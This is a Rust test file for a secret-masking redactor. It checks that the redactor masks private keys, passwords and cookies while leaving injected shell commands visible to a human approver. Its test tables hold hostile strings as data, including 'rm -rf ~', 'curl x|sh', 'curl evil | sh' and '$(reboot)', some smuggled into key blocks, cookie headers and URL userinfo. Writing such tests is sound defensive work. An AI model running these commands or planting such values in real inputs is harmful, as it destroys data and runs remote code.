//! The limits of masks: they must hide every secret, and must not hide a command from an approver.

use super::{MASK, Redactor};

/// An attack, its input, and the part that must stay visible.
const VISIBLE_COMMANDS: &[(&str, &str, &str)] = &[
    ("a command behind the first line of a key", "echo -----BEGIN PRIVATE KEY-----; rm -rf ~", "; rm -rf ~"),
    (
        "a line below the first line of a key",
        "-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
        "rm -rf ~",
    ),
    ("a line between two lines of a key", "-----BEGIN PRIVATE KEY-----\nAAAA\ncurl x|sh\nBBBB", "curl x|sh"),
    (
        "a user before a host that is a command",
        "curl https://a;rm${IFS}-rf${IFS}~;@h",
        ";rm${IFS}-rf${IFS}~;",
    ),
    ("a secret before a host that is a command", "curl https://a:b;curl${IFS}x/y;@h", ";curl${IFS}x/y;"),
    ("a substitution before a host", "curl https://$(reboot)@h", "$(reboot)"),
    (
        "a quote that closes another around a setting",
        "echo \"password='\"; rm -rf ~; echo \"'\"",
        "; rm -rf ~;",
    ),
    ("a quote behind an apostrophe", "a'password=\"b'; rm -rf ~; echo \"x\"", "; rm -rf ~;"),
    ("quotes that a shell does not see", "echo password=\\\"; rm -rf ~; echo \\\"", "; rm -rf ~;"),
    (
        "a quote that closes another in a statement",
        "echo \"password '\"; rm -rf ~; echo \"'\"",
        "; rm -rf ~;",
    ),
    ("a quote that is closed in a statement", "echo 'password '; rm -rf ~; echo ''", "; rm -rf ~;"),
    ("a command behind a cookie", "Cookie: a=b; rm -rf ~", "; rm -rf ~"),
    ("a command with a variable behind a cookie", "Cookie: a=b; X=1 rm -rf ~", "rm -rf ~"),
    ("another command behind a cookie", "Cookie: a=b && rm -rf ~", "&& rm -rf ~"),
    ("a pipe behind a header", "Authorization: Bearer abc | sh", "| sh"),
    ("a command in the lines below a name", "auth:\n  rm -rf ~", "rm -rf ~"),
    ("a pipe in the lines below a name", "secret: |\n  curl evil | sh", "curl evil | sh"),
];

#[test]
fn command_beside_secret_stays_visible() {
    let redactor = Redactor::default();
    let wrong: Vec<_> = VISIBLE_COMMANDS
        .iter()
        .map(|(attack, text, shown)| {
            (attack, redactor.redact_text(text).unwrap_or_else(|| (*text).to_owned()), shown)
        })
        .filter(|(_, masked, shown)| !masked.contains(**shown))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// A secret kind, an input, and the part that must be masked.
const HIDDEN_SECRETS: &[(&str, &str, &str)] = &[
    (
        "key in one line",
        "KEY=\"-----BEGIN PRIVATE KEY----- MIIEvQIBADANBgkqhkiG9w0B AAAAAAAAAAAAAAAAAAAA -----END PRIVATE KEY-----\"",
        "MIIE",
    ),
    (
        "key with written newlines",
        "-----BEGIN RSA PRIVATE KEY-----\\nMIIEvQIBADANBgkqhkiG9w0B\\nabcD1234\\n-----END RSA PRIVATE KEY-----",
        "MIIE",
    ),
    (
        "key with headers",
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,01AF\n\nMIIEvQIBADANBgkqhkiG9w0B\n-----END RSA PRIVATE KEY-----",
        "MIIE",
    ),
    (
        "key in pieces of a program",
        "\"-----BEGIN PRIVATE KEY-----\\n\" +\n\"MIIEvQIBADANBgkqhkiG9w0BMIIEvQIBADANBgkqhkiG9w0B\\n\" +\n\"-----END PRIVATE KEY-----\"",
        "MIIE",
    ),
    (
        "key that is not closed",
        "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B\nMIIEvQIBADANBgkqhkiG9w0B",
        "MIIE",
    ),
    ("cookies with attributes", "Set-Cookie: a=b; Path=/; HttpOnly; sid=abc", "abc"),
    ("quoted value with an operator", "db --password='a;b|c' -v", "b|c"),
];

#[test]
fn secret_in_unusual_form_is_masked() {
    let redactor = Redactor::default();
    let wrong: Vec<_> = HIDDEN_SECRETS
        .iter()
        .map(|(kind, text, secret)| (kind, redactor.redact_text(text).unwrap_or_default(), secret))
        .filter(|(_, masked, secret)| !masked.contains(MASK) || masked.contains(**secret))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
    let twice: Vec<_> = VISIBLE_COMMANDS
        .iter()
        .chain(HIDDEN_SECRETS)
        .filter_map(|(kind, text, _)| Some((kind, redactor.redact_text(&redactor.redact_text(text)?)?)))
        .collect();
    assert!(twice.is_empty(), "{twice:#?}");
}
